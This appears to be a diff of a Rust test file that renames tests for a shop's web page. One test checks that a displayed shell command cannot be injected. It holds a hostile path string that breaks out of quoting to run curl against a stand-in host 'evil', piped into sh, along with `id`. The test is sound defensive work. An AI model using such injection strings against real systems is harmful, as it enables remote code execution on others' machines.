@@ -213,7 +213,7 @@ async fn only_its_own_script_runs_in_the_page() {
 
 /// Where the seller's words, the path and the query come from is not asked: all of it is text.
 #[tokio::test]
-async fn hostile_words_stay_words() {
+async fn hostile_texts_are_escaped() {
     let (_chain, shop) = open().await;
     let calm = visit(&shop, shop.layer().description("x").service_name("x").tags(["x"]), "/x?x").await;
     let evil =
@@ -243,7 +243,7 @@ async fn hostile_words_stay_words() {
 
 /// People paste it into a shell.
 #[tokio::test]
-async fn the_command_that_is_shown_cannot_be_made_another_command() {
+async fn shown_shell_command_cannot_be_injected() {
     let (_chain, shop) = open().await;
     let layer = shop.layer().public_origin("https://a.example");
     let answer = visit(&shop, layer, "/a';curl${IFS}evil|sh;'\"?q='`id`\\").await;
@@ -279,7 +279,7 @@ async fn every_offer_is_shown_as_it_is_signed() {
 }
 
 #[tokio::test]
-async fn a_price_of_the_request_is_shown_for_the_request() {
+async fn computed_price_is_shown_for_its_request() {
     let (_chain, shop) = open().await;
     let price = |request: &request::Parts| {
         let units = request.uri.query().map_or(0, |query| query.parse().unwrap());
@@ -339,7 +339,7 @@ async fn page_is_complete_without_a_script() {
 }
 
 #[tokio::test]
-async fn another_chain_and_token_are_called_by_their_own_names() {
+async fn other_chains_and_tokens_are_shown_by_name() {
     let chain = DevnetChain::start(None).await;
     let shop = Shop::open(&chain).await;
     let own = support::changed(shop.asset.clone(), |asset| {
